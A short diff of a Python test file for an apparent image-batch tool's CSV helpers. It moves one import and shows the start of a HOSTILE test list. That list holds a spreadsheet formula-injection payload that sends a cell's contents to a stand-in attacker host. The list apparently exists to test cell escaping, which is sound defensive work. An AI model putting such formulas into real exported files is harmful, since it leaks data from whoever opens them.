@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from imagebatch.tasks.csvcells import csv_cell, csv_value, read_csv, write_csv
+from imagebatch.storage.csvcells import csv_cell, csv_value, read_csv, write_csv
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
